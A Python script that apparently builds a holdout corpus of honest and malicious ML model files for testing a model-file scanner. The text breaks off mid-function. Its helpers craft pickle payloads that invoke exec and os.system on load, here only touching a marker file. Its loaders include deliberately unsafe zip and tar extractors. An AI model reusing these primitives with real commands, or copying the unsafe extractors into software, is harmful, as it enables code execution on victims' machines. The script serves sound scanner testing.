# SPDX-License-Identifier: Apache-2.0
"""Independent holdout E: honest and malicious model files written by real libraries.

    fresh3.py all                 build everything, prove everything, write labels.json
    fresh3.py honest|malicious    build one side only (each in the venvs its writers need)
Payloads only create an empty file named hE_mark in the current (temporary) folder.
"""
import base64, bz2, codecs, collections, copy, functools, gzip, hashlib, io, json, lzma, marshal, operator, os
import pickle, random, shutil, struct, subprocess, sys, tarfile, tempfile, time, types, warnings, zipfile, zlib
warnings.simplefilter("ignore")
HERE = os.environ.get("HOLDOUT", os.path.join(tempfile.gettempdir(), "hauberk-holdout"))
FILES = HERE + "/files"
VENV = {e: f"{HERE}/venv{e}/bin/python" for e in "MOPFK"}
HONEST, MALICIOUS = [], []          # the registry: dicts of name, env, family, loader, proof, rule, source, ext, fn
CMD = "touch hE_mark"
PY = "open('hE_mark','w').close()"
ARGV = ["touch", "hE_mark"]


def pid(name):
    return hashlib.sha1(("E3" + name).encode()).hexdigest()[:9]


def reg(lst, name, env, family, loader, ext, fn, proof, source, rule, bad):
    assert name not in {e["name"] for e in lst}, name
    lst.append(dict(name=name, env=env, family=family, loader=loader, ext=ext, fn=fn, proof=proof, source=source,
                    rule=rule, bad=bad))


def H(name, env, family, loader, ext, source=""):
    return lambda fn: (reg(HONEST, name, env, family, loader, ext, fn, "none", source, "", False), fn)[1]


def M(name, family, loader, ext=".pkl", env="M", proof="mark", source="", rule=""):
    return lambda fn: (reg(MALICIOUS, name, env, family, loader, ext, fn, proof, source, rule, True), fn)[1]


def target(e):
    """path of the file; an ext that starts with '/' means: a folder of its own with that file inside."""
    if e["ext"].startswith("/"):
        p = f"{FILES}/{pid(e['name'])}{e['ext']}"
        os.makedirs(os.path.dirname(p), exist_ok=True)
        return p
    return f"{FILES}/{pid(e['name'])}{e['ext']}"


# ------------------------------------------------------------------ loaders (what a user would run)
def _np_all(p):
    import numpy as np
    a = np.load(p, allow_pickle=True)
    return {k: a[k] for k in a.files} if hasattr(a, "files") else a


def _pickle_all(p):
    out = []
    with open(p, "rb") as f:
        while True:
            try:
                out.append(pickle.load(f))
            except EOFError:
                return out


def _pl(p, **k):
    with open(p, "rb") as f:
        return pickle.load(f, **k)


def _jl(p, **k):
    import joblib
    return joblib.load(p, **k)


def _torch(p, **k):
    import torch
    return torch.load(p, map_location="cpu", **k)


def _render(t):
    import jinja2
    env = jinja2.Environment(trim_blocks=True, lstrip_blocks=True)
    env.globals["raise_exception"] = lambda m: (_ for _ in ()).throw(ValueError(m))
    env.globals["strftime_now"] = lambda f: "2026"
    msgs = [dict(role="user", content="hi"), dict(role="assistant", content="hello")]
    return env.from_string(t).render(messages=msgs, bos_token="<s>", eos_token="</s>", add_generation_prompt=True,
                                     tools=None)


def _gguf(p):
    import gguf
    r = gguf.GGUFReader(p)
    out = []
    for k, f in r.fields.items():
        if k.startswith("tokenizer.chat_template") and f.types and f.types[0] == gguf.GGUFValueType.STRING:
            out.append(_render(bytes(f.parts[f.data[0]]).decode()))
    return out


def _tok(p):
    if p.endswith((".jinja", ".jinja2")):
        return _render(open(p).read())
    d = json.load(open(p))
    t = d.get("chat_template")
    if isinstance(t, list):
        return [_render(x["template"]) for x in t]
    if isinstance(t, dict):
        return [_render(x) for x in t.values()]
    return _render(t) if t else d


def _keras(p):
    os.environ.setdefault("KERAS_BACKEND", "torch" if "venvM" in sys.executable else "numpy")
    import keras
    return keras.saving.load_model(p, safe_mode=False)


def _tfk(p, **k):
    import tensorflow as tf
    return tf.keras.models.load_model(p, **k)


def _tfs(p):
    import tensorflow as tf
    return tf.saved_model.load(os.path.dirname(p))


def _tfs_call(p):
    import tensorflow as tf
    m = _tfs(p)
    return m.signatures["serving_default"](x=tf.constant([1.0]))


def _skops(p):
    import skops.io as sio
    return sio.load(p, trusted=sio.get_untrusted_types(file=p))


def _st(p):
    try:
        from safetensors.numpy import load_file
        return load_file(p)
    except TypeError:
        from safetensors.torch import load_file
        return load_file(p)


def _onnx(p):
    import onnx
    m = onnx.load(p)
    onnx.checker.check_model(m)
    return m


def _onnx_rt(p):
    import onnxruntime as rt
    return rt.InferenceSession(p, providers=["CPUExecutionProvider"])


def _pkgimp(p):
    from torch.package import PackageImporter
    return PackageImporter(p).load_pickle("model", "model.pkl")


def _jit(p):
    import torch
    return torch.jit.load(p)


def _naive(dest, names):
    return any(not os.path.realpath(os.path.join(dest, n)).startswith(os.path.realpath(dest) + os.sep) for n in names)


def _x_zip(p):      # the usual home-made extractor: join(dest, name)
    os.makedirs("in/dest", exist_ok=True)
    with zipfile.ZipFile(p) as z:
        for i in z.infolist():
            t = os.path.join("in/dest", i.filename.replace("\\", "/"))
            if i.is_dir():
                continue
            os.makedirs(os.path.dirname(t), exist_ok=True)
            if (i.external_attr >> 16) & 0o170000 == 0o120000:
                os.symlink(z.read(i).decode(), t)
            else:
                open(t, "wb").write(z.read(i))


def _x_tar(p):      # tarfile's own default until Python 3.14
    os.makedirs("in/dest", exist_ok=True)
    with tarfile.open(p) as t:
        t.extractall("in/dest", filter="fully_trusted")


def _unpack(p):
    """take the model out of its wrapping and load every member that is a model"""
    import joblib
    d = tempfile.mkdtemp(dir=".")
    raw = open(p, "rb").read(6)
    if raw[:2] == b"PK":
        zipfile.ZipFile(p).extractall(d)
    elif raw[:6] == b"7z\xbc\xaf\x27\x1c":
        import py7zr
        py7zr.SevenZipFile(p).extractall(d)
    elif raw[:4] == b"\x28\xb5\x2f\xfd":
        import zstandard
        b = zstandard.ZstdDecompressor().stream_reader(open(p, "rb")).read()
        open(d + "/m", "wb").write(b)
    elif raw[:4] == b"\x04\x22\x4d\x18":
        import lz4.frame
        open(d + "/m", "wb").write(lz4.frame.decompress(open(p, "rb").read()))
    else:
        try:
            tarfile.open(p).extractall(d)
        except tarfile.TarError:
            for op in (gzip.open, bz2.open, lzma.open):
                try:
                    open(d + "/m", "wb").write(op(p).read())
                    break
                except (OSError, lzma.LZMAError):
                    pass
    for r, _, fs in os.walk(d):
        for f in fs:
            q = os.path.join(r, f)
            h = open(q, "rb").read(4)
            if h[:2] == b"PK" and b"data.pkl" not in open(q, "rb").read() or h[:3] in (b"\x1f\x8b\x08", b"BZh") or \
                    (tarfile.is_tarfile(q)):
                if os.path.abspath(q) != os.path.abspath(p) and not q.endswith(".npz"):
                    try:
                        _unpack(q)
                        continue
                    except Exception:
                        pass
            if q.endswith((".md", ".json", ".txt", ".yaml", ".yml", "MLmodel", ".csv", ".png")):
                continue
            try:
                joblib.load(q)
            except Exception:
                try:
                    _np_all(q)
                except Exception:
                    pass
    return True


class PersU(pickle.Unpickler):
    """a store's unpickler with persistent_load, as such stores write it: the id may be a callable to build the blob"""
    def persistent_load(self, x):
        return x


def _pred(p):
    import numpy as np
    m = _jl(p)
    m = m["model"] if isinstance(m, dict) else m
    if callable(m) and not hasattr(m, "predict") and not hasattr(m, "transform"):
        return m(1)
    return m.predict(np.ones((2, 4))) if hasattr(m, "predict") else m.transform(np.ones((2, 4)))


def _dill_call(p):
    import dill
    f = dill.load(open(p, "rb"))
    return f(1)


def _torch_call(p):
    import torch
    m = _torch(p, weights_only=False)
    return m(torch.ones(1, 4))


def _jit_call(p):
    import torch
    return _jit(p)(torch.ones(4))


def _keras_eval(p):
    import numpy as np
    m = _keras(p)
    return m.predict(np.ones((2, 4)), verbose=0)


def _xgb(p):
    import xgboost
    b = xgboost.Booster()
    b.load_model(p)
    return b


def _lgb(p):
    import lightgbm
    return lightgbm.Booster(model_file=p)


def _cb(p, fmt="cbm"):
    import catboost
    return catboost.CatBoost().load_model(p, format=fmt)


def _pandas(p):
    import pandas as pd
    return pd.read_pickle(p)


def _dill(p):
    import dill
    return dill.load(open(p, "rb"))


def _spnpz(p):
    import scipy.sparse
    return scipy.sparse.load_npz(p)


def _txt(p):
    return open(p, "rb").read()


def _tokenizers(p):
    import tokenizers
    return tokenizers.Tokenizer.from_file(p)


def _h5w(p):
    import h5py
    return list(h5py.File(p))


def _np_plain(p):
    import numpy as np
    a = np.load(p)
    return {k: a[k] for k in a.files} if hasattr(a, "files") else a


LOADERS = {
    "pickle.load": _pl, "pickle.load latin1": lambda p: _pl(p, encoding="latin1"), "pickle.load until EOF": _pickle_all,
    "persistent unpickler": lambda p: PersU(open(p, "rb")).load(),
    "joblib.load": _jl, "joblib.load mmap": lambda p: _jl(p, mmap_mode="r"), "joblib.load+predict": _pred,
    "dill.load": _dill, "dill.load+call": _dill_call, "np.load": _np_plain, "np.load allow_pickle": _np_all,
    "pandas.read_pickle": _pandas, "scipy.sparse.load_npz": _spnpz,
    "torch.load weights_only=False": lambda p: _torch(p, weights_only=False),
    "torch.load weights_only=True": lambda p: _torch(p, weights_only=True),
    "torch.load+call": _torch_call, "torch.jit.load": _jit, "torch.jit.load+call": _jit_call,
    "torch.package": _pkgimp, "torch.export.load": lambda p: __import__("torch").export.load(p),
    "keras.load_model safe_mode=False": _keras, "keras.load_model+predict": _keras_eval,
    "tf.keras.load_model": _tfk, "tf.keras.load_model safe_mode=False": lambda p: _tfk(p, safe_mode=False),
    "tf.keras.load_model dir": lambda p: _tfk(os.path.dirname(p)),
    "tf.saved_model.load": _tfs, "tf.saved_model.load+call": _tfs_call,
    "skops.io.load trusted": _skops, "safetensors": _st, "onnx.load": _onnx, "onnxruntime": _onnx_rt,
    "gguf chat template": _gguf, "tokenizer chat template": _tok, "tokenizers": _tokenizers,
    "zip extract": _x_zip, "tar extractall": _x_tar, "unpack+load": _unpack, "read": _txt, "h5py": _h5w,
    "xgboost": _xgb, "lightgbm": _lgb, "catboost": _cb, "catboost json": lambda p: _cb(p, "json"),
}


# ------------------------------------------------------------------ helpers for the attackers
class R:
    """pickles as REDUCE of f(*a); usable as a callee itself, so that chains can be built"""
    def __init__(self, f, *a):
        self.f, self.a = f, a

    def __reduce__(self):
        return self.f, self.a

    def __call__(self):
        pass


def I(path):
    import importlib
    m, n = path.split(":")
    return functools.reduce(getattr, n.split("."), importlib.import_module(m))


def sb(s):
    b = s.encode() if isinstance(s, str) else s
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def G(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def SG(m, n):
    return sb(m) + sb(n) + b"\x93"


def B(o):
    """body of an object, without PROTO and STOP"""
    return pickle.dumps(o, 3)[2:-1]


def bytes_op(b):
    return b"B" + struct.pack("<I", len(b)) + b


def w(p, b):
    with open(p, "wb") as f:
        f.write(b)


EVIL = G("builtins", "exec") + sb(PY) + b"\x85R"
EVIL_OS = G("os", "system") + sb(CMD) + b"\x85R"


def XY(n=60, d=4, k=2, seed=0):
    import numpy as np
    r = np.random.RandomState(seed)
    X = r.rand(n, d)
    return X, (X[:, 0] * k).astype(int) % k


def lr():
    from sklearn.linear_model import LogisticRegression
    return LogisticRegression().fit(*XY())


def rf(n=3):
    from sklearn.ensemble import RandomForestClassifier
    return RandomForestClassifier(n_estimators=n, max_depth=3, random_state=0).fit(*XY())


def net():
    import torch
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
# ================================================================== HONEST
def honest_sklearn():
    """scikit-learn estimators over three versions, pickled and joblib-dumped the ways teams do it."""
    def lazy(path, *a, **k):
        return lambda: I(path)(*a, **k)

    def cls(o):
        return lambda: o().fit(*XY())

    def text(vec, est=None):
        docs = ["red cat sat", "blue dog ran", "red dog sat down", "the blue cat ran away"] * 5
        y = [0, 1, 0, 1] * 5
        from sklearn.pipeline import make_pipeline
        return vec.fit(docs) if est is None else make_pipeline(vec, est).fit(docs, y)

    def frame():
        import numpy as np, pandas as pd
        from sklearn.compose import ColumnTransformer
        from sklearn.impute import SimpleImputer
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import OneHotEncoder, StandardScaler
        df = pd.DataFrame({"age": [20, 30, np.nan, 40] * 8, "city": ["a", "b", "c", "a"] * 8, "inc": range(32)})
        ct = ColumnTransformer([("n", Pipeline([("i", SimpleImputer()), ("s", StandardScaler())]), ["age", "inc"]),
                                ("c", OneHotEncoder(handle_unknown="ignore"), ["city"])])
        return Pipeline([("prep", ct), ("clf", LogisticRegression())]).fit(df, [0, 1] * 16)

    def grid():
        from sklearn.model_selection import GridSearchCV
        from sklearn.svm import SVC
        return GridSearchCV(SVC(), {"C": [0.1, 1]}, cv=2).fit(*XY())

    def rand():
        from scipy.stats import loguniform, randint
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.model_selection import RandomizedSearchCV
        return RandomizedSearchCV(RandomForestClassifier(2), {"max_depth": randint(1, 4), "ccp_alpha": loguniform(
            1e-4, 1e-2)}, n_iter=2, cv=2, random_state=0).fit(*XY())

    def stack():
        from sklearn.ensemble import StackingClassifier
        from sklearn.naive_bayes import GaussianNB
        from sklearn.tree import DecisionTreeClassifier
        return StackingClassifier([("a", GaussianNB()), ("t", DecisionTreeClassifier(max_depth=2))], cv=2).fit(*XY())

    def vote():
        from sklearn.ensemble import VotingRegressor
        from sklearn.linear_model import Ridge
        from sklearn.neighbors import KNeighborsRegressor
        return VotingRegressor([("r", Ridge()), ("k", KNeighborsRegressor())]).fit(*XY())

    def gp():
        from sklearn.gaussian_process import GaussianProcessRegressor
        from sklearn.gaussian_process.kernels import RBF, ConstantKernel as C, WhiteKernel
        return GaussianProcessRegressor(C() * RBF() + WhiteKernel(), optimizer=None).fit(*XY())

    def calib():
        from sklearn.calibration import CalibratedClassifierCV
        from sklearn.svm import LinearSVC
        return CalibratedClassifierCV(LinearSVC(), cv=2).fit(*XY())

    def pca():
        from sklearn.decomposition import PCA
        from sklearn.pipeline import make_pipeline
        from sklearn.svm import SVR
        return make_pipeline(PCA(2), SVR()).fit(*XY())

    def union():
        import numpy as np
        from sklearn.feature_selection import SelectKBest, f_classif
        from sklearn.pipeline import FeatureUnion, make_pipeline
        from sklearn.preprocessing import FunctionTransformer, KBinsDiscretizer, PolynomialFeatures
        return make_pipeline(FunctionTransformer(np.log1p), FeatureUnion([("p", PolynomialFeatures(2)), (
            "k", KBinsDiscretizer(3, encode="ordinal"))]), SelectKBest(f_classif, k=3)).fit(*XY())

    def itimp():
        from sklearn.experimental import enable_iterative_imputer  # noqa: F401
        from sklearn.impute import IterativeImputer
        return IterativeImputer(max_iter=2).fit(XY()[0])

    def tfidf():
        from sklearn.feature_extraction.text import TfidfVectorizer
        from sklearn.linear_model import SGDClassifier
        return text(TfidfVectorizer(ngram_range=(1, 2)), SGDClassifier(max_iter=5))

    def cv():
        from sklearn.feature_extraction.text import CountVectorizer
        from sklearn.naive_bayes import MultinomialNB
        return text(CountVectorizer(stop_words="english"), MultinomialNB())

    def hashv():
        from sklearn.feature_extraction.text import HashingVectorizer
        from sklearn.linear_model import PassiveAggressiveClassifier
        return text(HashingVectorizer(n_features=64), PassiveAggressiveClassifier(max_iter=5))

    def lda():
        from sklearn.decomposition import LatentDirichletAllocation
        return LatentDirichletAllocation(2, max_iter=2).fit(XY()[0])

    def scalers():
        from sklearn.preprocessing import MinMaxScaler, RobustScaler, StandardScaler
        return {c: s().fit(XY()[0]) for c, s in zip("abc", (MinMaxScaler, RobustScaler, StandardScaler))}

    def multi():
        from sklearn.linear_model import Lasso
        from sklearn.multioutput import MultiOutputRegressor
        import numpy as np
        X, y = XY()
        return MultiOutputRegressor(Lasso(0.1)).fit(X, np.c_[y, -y])

    def ttr():
        import numpy as np
        from sklearn.compose import TransformedTargetRegressor
        from sklearn.linear_model import LinearRegression
        return TransformedTargetRegressor(LinearRegression(), func=np.log1p, inverse_func=np.expm1).fit(*XY())

    E, L, T = "sklearn.ensemble:", "sklearn.linear_model:", "sklearn.tree:"
    tab = {
        "rf": lambda: rf(5), "lr": lr, "grid": grid, "rand": rand, "stack": stack, "vote": vote, "gp": gp,
        "calib": calib, "pca": pca, "union": union, "itimp": itimp, "tfidf": tfidf, "cv": cv, "hash": hashv, "lda": lda,
        "frame": frame, "scalers": scalers, "multi": multi, "ttr": ttr,
        "gb": cls(lazy(E + "GradientBoostingClassifier", n_estimators=4)),
        "hgb": cls(lazy(E + "HistGradientBoostingClassifier", max_iter=3)),
        "et": cls(lazy(E + "ExtraTreesRegressor", 3)), "ada": cls(lazy(E + "AdaBoostClassifier", n_estimators=3)),
        "iso": cls(lazy(E + "IsolationForest", n_estimators=4)), "bag": cls(lazy(E + "BaggingClassifier", n_estimators=3)),
        "svc": cls(lazy("sklearn.svm:SVC", probability=True)), "ocsvm": cls(lazy("sklearn.svm:OneClassSVM")),
        "knn": cls(lazy("sklearn.neighbors:KNeighborsClassifier")), "balltree": cls(lazy(
            "sklearn.neighbors:KNeighborsRegressor", algorithm="ball_tree")),
        "mlp": cls(lazy("sklearn.neural_network:MLPClassifier", (4,), max_iter=5)),
        "nb": cls(lazy("sklearn.naive_bayes:GaussianNB")), "km": cls(lazy("sklearn.cluster:KMeans", 2, n_init=1)),
        "dbs": cls(lazy("sklearn.cluster:DBSCAN")), "dt": cls(lazy(T + "DecisionTreeRegressor")),
        "ecv": cls(lazy(L + "ElasticNetCV", cv=2)), "huber": cls(lazy(L + "HuberRegressor")),
        "lof": cls(lazy("sklearn.neighbors:LocalOutlierFactor", novelty=True)), "sgd": cls(lazy(L + "SGDRegressor")),
        "qt": cls(lazy("sklearn.preprocessing:QuantileTransformer", n_quantiles=5)),
        "gmm": cls(lazy("sklearn.mixture:GaussianMixture", 2)),
        "te": cls(lazy("sklearn.preprocessing:TargetEncoder", cv=2)),
        "le": lambda: I("sklearn.preprocessing:LabelEncoder")().fit(["a", "b", "c"]),
        "mlb": lambda: I("sklearn.preprocessing:MultiLabelBinarizer")().fit([("a", "b"), ("c",)]),
        "svd": cls(lazy("sklearn.decomposition:TruncatedSVD", 2)), "nmf": cls(lazy("sklearn.decomposition:NMF", 2,
                                                                                 max_iter=10)),
        "plan": [("M", "rf lr:p2 frame:jl hgb:p5 grid:j tfidf:jgz svc:p4 knn:j mlp:jxz scalers:p4 gp:p3 rand:j te:p5 "
                       "union:p4 stack:jbz gmm:j itimp:jlz4 ttr:p4"),
                 ("P", "rf:jl frame:p4 hgb:j gb:p4 cv:j calib:p5 iso:jgz le:p3 vote:j pca:p4 nmf:jlzma mlb:p2 dt:j"),
                 ("O", "rf:j gb:jz lr:p4 svc:j tfidf:p2 ada:p4 km:j ecv:p3 bag:j qt:p4 balltree:j lof:jgz hash:p4 lda:j "
                       "multi:p0 sgd:p1")],
    }

    def save(o, how, p):
        import joblib
        if how[0] == "p":
            w(p, pickle.dumps(o, int(how[1])))
        else:
            joblib.dump(o, p, compress={"j": 0, "jl": 0, "jz": 3, "jgz": ("gzip", 3), "jbz": ("bz2", 3), "jxz": ("xz", 3),
                                        "jlzma": ("lzma", 3), "jlz4": ("lz4", 3)}[how])
    for env, plan in tab.pop("plan"):
        for it in plan.split():
            n, _, how = it.partition(":")
            how = how or "j"

            def fn(p, n=n, how=how):
                save(tab[n](), how, p)
            reg(HONEST, f"skl-{env}-{n}-{how}", env, "sklearn", "pickle.load" if how[0] == "p" else "joblib.load",
                ".pkl" if how[0] == "p" else random.Random(n).choice([".joblib", ".pkl", ".sav"]), fn, "none",
                "scikit-learn estimator", "", False)


honest_sklearn()


# ---- numpy, pandas, scipy
@H("np-emb", "M", "numpy", "np.load", ".npy")
def _(p):
    import numpy as np
    with open(p, "wb") as f:
        np.save(f, np.random.RandomState(1).rand(50, 16).astype("f4"))


@H("np-npz", "M", "numpy", "np.load", ".npz")
def _(p):
    import numpy as np
    with open(p, "wb") as f:
        np.savez_compressed(f, W=np.ones((4, 4)), b=np.zeros(4), vocab=np.array(["cat", "dog"]), step=3)


@H("np-struct", "P", "numpy", "np.load", ".npy")
def _(p):
    import numpy as np
    with open(p, "wb") as f:
        np.save(f, np.array([(1, 2.0, "x"), (2, 3.0, "y")], dtype=[("id", "i4"), ("s", "f8"), ("n", "U3")]))


@H("np-obj", "O", "numpy", "np.load allow_pickle", ".npy")
def _(p):
    import numpy as np
    with open(p, "wb") as f:
        np.save(f, np.array(["red", None, 3, {"k": np.arange(3)}], dtype=object))


@H("np-objz", "M", "numpy", "np.load allow_pickle", ".npz")
def _(p):
    import numpy as np
    with open(p, "wb") as f:
        np.savez(f, params=np.array({"lr": 0.1, "layers": [4, 2]}, dtype=object), w0=np.ones((4, 2)))


@H("np-pickled", "O", "numpy", "pickle.load", ".pkl")
def _(p):
    import numpy as np
    w(p, pickle.dumps({"w": np.ones((3, 3)), "rng": np.random.RandomState(0), "ma": np.ma.masked_array([1, 2], [0, 1]),
                       "dt": np.datetime64("2024-01-01"), "c": np.complex64(2), "f": np.asfortranarray(np.ones((2, 3)))}, 4))


@H("np-gen5", "M", "numpy", "pickle.load", ".pkl")
def _(p):
    import numpy as np
    w(p, pickle.dumps([np.random.default_rng(3), np.float32(1.5), np.arange(9).reshape(3, 3), np.rec.array([(1, 2.0)])], 5))


@H("pd-df3", "M", "pandas", "pandas.read_pickle", ".pkl")
def _(p):
    import pandas as pd
    pd.DataFrame({"a": [1, 2], "s": ["x", "y"], "t": pd.to_datetime(["2024-01-01", "2024-02-01"]),
                  "c": pd.Categorical(["u", "v"])}).to_pickle(p)


@H("pd-df15gz", "O", "pandas", "pandas.read_pickle", ".pkl.gz")
def _(p):
    import pandas as pd
    pd.DataFrame({"a": [1.0, None], "b": pd.array([1, None], dtype="Int64"), "tz": pd.date_range("2020", periods=2,
                                                                                              tz="UTC")}).to_pickle(p)


@H("pd-mi", "P", "pandas", "pickle.load", ".pkl")
def _(p):
    import pandas as pd
    s = pd.Series(range(4), index=pd.MultiIndex.from_product([["a", "b"], [1, 2]]), name="n")
    w(p, pickle.dumps({"s": s, "iv": pd.interval_range(0, 3), "per": pd.period_range("2020-01", periods=2, freq="M"),
                       "td": pd.Timedelta("1D"), "off": pd.offsets.BusinessDay(2), "na": pd.NA}, 4))


@H("pd-dict", "P", "pandas", "joblib.load", ".joblib")
def _(p):
    import joblib, pandas as pd
    joblib.dump({"features": pd.DataFrame({"x": range(50), "y": [.5] * 50}), "stats": pd.DataFrame({"x": [1]}).describe()}, p)


@H("pd-arrow", "M", "pandas", "pandas.read_pickle", ".pkl")
def _(p):
    import pandas as pd
    pd.DataFrame({"s": pd.array(["a", None], dtype="string[pyarrow]"), "l": pd.array([1, 2], dtype="int64[pyarrow]"),
                  "n": [1.5, 2]}).to_pickle(p)


@H("sp-npz", "M", "sparse", "scipy.sparse.load_npz", ".npz")
def _(p):
    import scipy.sparse as s
    with open(p, "wb") as f:
        s.save_npz(f, s.random(30, 30, 0.1, "csr", random_state=1))


@H("sp-pkl", "P", "sparse", "pickle.load", ".pkl")
def _(p):
    import scipy.sparse as s
    w(p, pickle.dumps({"tfidf": s.eye(5, format="csr"), "coo": s.coo_matrix([[0, 1], [2, 0]]), "lil": s.lil_matrix((3, 3))}, 4))


@H("sp-jl", "O", "sparse", "joblib.load", ".joblib")
def _(p):
    import joblib, scipy.sparse as s
    joblib.dump([s.random(40, 40, 0.1, "csc", random_state=1), s.dok_matrix((3, 3))], p, compress=3)


# ---- torch
@H("t-sd", "M", "torch", "torch.load weights_only=True", ".pt")
def _(p):
    import torch
    torch.save(net().state_dict(), p)


@H("t-ckpt", "M", "torch", "torch.load weights_only=False", ".ckpt")
def _(p):
    import torch, numpy as np
    m = net()
    o = torch.optim.AdamW(m.parameters())
    s = torch.optim.lr_scheduler.CosineAnnealingLR(o, 10)
    m(torch.ones(1, 4)).sum().backward()
    o.step()
    s.step()
    torch.save({"epoch": 3, "model": m.state_dict(), "optimizer": o.state_dict(), "scheduler": s.state_dict(),
                "best": np.float64(0.91), "rng": torch.get_rng_state(), "args": {"lr": 1e-3}}, p)


@H("t-whole", "M", "torch", "torch.load weights_only=False", ".pth")
def _(p):
    import torch
    torch.save(net(), p)


@H("t-cnn", "M", "torch", "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    n = torch.nn
    torch.save(n.Sequential(n.Conv2d(1, 2, 3), n.BatchNorm2d(2), n.GELU(), n.MaxPool2d(2), n.Flatten(), n.Dropout(.1),
                            n.Linear(2, 2), n.Softmax(-1)), p)


@H("t-tr", "M", "torch", "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    n = torch.nn
    torch.save(n.ModuleDict({"emb": n.Embedding(10, 8), "enc": n.TransformerEncoder(n.TransformerEncoderLayer(
        8, 2, 16, batch_first=True), 1), "lstm": n.LSTM(8, 4, bidirectional=True), "ln": n.LayerNorm(8)}), p)


@H("t-legacy", "M", "torch", "torch.load weights_only=True", ".bin")
def _(p):
    import torch
    torch.save(net().state_dict(), p, _use_new_zipfile_serialization=False)


@H("t-legacyw", "M", "torch", "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    torch.save(net(), p, _use_new_zipfile_serialization=False, pickle_protocol=4)


@H("t-script", "M", "torch", "torch.jit.load", ".pt")
def _(p):
    import torch
    torch.jit.save(torch.jit.script(net()), p)


@H("t-trace", "M", "torch", "torch.jit.load", ".ptl")
def _(p):
    import torch
    torch.jit.trace(net(), torch.ones(1, 4)).save(p)


@H("t-tens", "M", "torch", "torch.load weights_only=True", ".pt")
def _(p):
    import torch
    torch.save([torch.ones(3, dtype=torch.bfloat16), torch.eye(3).to_sparse(), torch.tensor([True]), torch.quantize_per_tensor(
        torch.ones(3), .1, 0, torch.qint8), torch.Size([2]), torch.float16, torch.device("cpu")], p)


@H("t-sched", "M", "torch", "torch.load weights_only=False", ".pth")
def _(p):
    import torch, pathlib, datetime, argparse
    m = net()
    o = torch.optim.SGD(m.parameters(), .1, momentum=.9)
    torch.save(dict(state_dict=m.state_dict(), opt=o, cfg=argparse.Namespace(lr=.1, out=pathlib.PurePosixPath("runs/1")),
                    when=datetime.datetime(2025, 3, 2, 10), hist=collections.defaultdict(list, loss=[.3, .2])), p)


@H("t-ema", "M", "torch", "torch.load weights_only=False", ".bin")
def _(p):
    import torch
    torch.save({"ema": torch.optim.swa_utils.AveragedModel(net()), "loss": torch.nn.CrossEntropyLoss(weight=torch.ones(2))}, p)


@H("t-export", "M", "torch", "torch.export.load", ".pt2")
def _(p):
    import torch
    torch.export.save(torch.export.export(net(), (torch.ones(1, 4),)), p)


@H("t-wnorm", "M", "torch", "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    m = net()
    for q in m[0].parameters():
        q.requires_grad_(False)
    torch.save({"m": m, "p": torch.nn.Parameter(torch.ones(2)), "buf": torch.nn.Linear(2, 2).half()}, p)


# ---- safetensors, ONNX, Keras, GGUF, tokenizer
@H("st-torch", "M", "safetensors", "safetensors", ".safetensors")
def _(p):
    import torch
    from safetensors.torch import save_file
    save_file({k: v.contiguous() for k, v in net().state_dict().items()}, p, metadata={"format": "pt"})


@H("st-np", "M", "safetensors", "safetensors", ".safetensors")
def _(p):
    import numpy as np
    from safetensors.numpy import save_file
    save_file({"w": np.ones((3, 4), "f2"), "ids": np.arange(5), "empty": np.zeros((0, 3), "f4"), "sc": np.array(2.0)}, p,
              metadata={"title": "LoRA rank 8 <b>v2</b>", "ss_tag_frequency": json.dumps({"img": {"cat": 3}})})


@H("st-uni", "M", "safetensors", "safetensors", ".safetensors")
def _(p):
    import torch
    from safetensors.torch import save_file
    save_file({"modèle.couche.0": torch.ones(2, dtype=torch.bfloat16), "层.1": torch.zeros(2, dtype=torch.int8)}, p)


def _skl2onnx(p, opset=None):
    from skl2onnx import to_onnx
    import numpy as np
    w(p, to_onnx(rf(), np.ones((1, 4), "f4"), target_opset=opset).SerializeToString())


H("onnx-rf", "M", "onnx", "onnxruntime", ".onnx")(lambda p: _skl2onnx(p))


def _onnx_mlp(ext=None, meta=True):
    import numpy as np, onnx
    from onnx import helper as h, numpy_helper as nh, TensorProto as T
    W = nh.from_array(np.ones((4, 2), "f4"), "W")
    g = h.make_graph([h.make_node("MatMul", ["x", "W"], ["y0"]), h.make_node("Relu", ["y0"], ["y"])], "g",
                     [h.make_tensor_value_info("x", T.FLOAT, [1, 4])], [h.make_tensor_value_info("y", T.FLOAT, [1, 2])], [W])
    m = h.make_model(g, opset_imports=[h.make_opsetid("", 17)], ir_version=9)
    if meta:
        h.set_model_props(m, {"author": "team", "labels": "a,b"})
    return m


@H("onnx-mlp", "M", "onnx", "onnxruntime", ".onnx")
def _(p):
    w(p, _onnx_mlp().SerializeToString())


@H("onnx-ext", "M", "onnx", "onnx.load", "/model.onnx")
def _(p):
    import onnx
    onnx.save_model(_onnx_mlp(), p, save_as_external_data=True, all_tensors_to_one_file=True, location="model.onnx.data",
                    size_threshold=0)


@H("onnx-pipe", "M", "onnx", "onnxruntime", ".onnx")
def _(p):
    from skl2onnx import to_onnx
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.linear_model import LogisticRegression
    import numpy as np
    w(p, to_onnx(make_pipeline(StandardScaler(), LogisticRegression()).fit(*XY()), np.ones((1, 4), "f4")).SerializeToString())


def _kmodel(comp=True):
    os.environ["KERAS_BACKEND"] = "torch"
    import keras
    m = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, "relu"), keras.layers.Dropout(.1), keras.layers.Dense(1)])
    if comp:
        m.compile("adam", "mse", metrics=["mae"])
    return m


H("k-seq", "M", "keras", "keras.load_model safe_mode=False", ".keras")(lambda p: _kmodel().save(p))
H("k-h5", "M", "keras", "keras.load_model safe_mode=False", ".h5")(lambda p: _kmodel(False).save(p))
H("k-w", "M", "keras", "h5py", ".weights.h5")(lambda p: _kmodel().save_weights(p))


@H("k-func", "M", "keras", "keras.load_model safe_mode=False", ".keras")
def _(p):
    os.environ["KERAS_BACKEND"] = "torch"
    import keras
    L = keras.layers
    i = keras.Input((6, 6, 1))
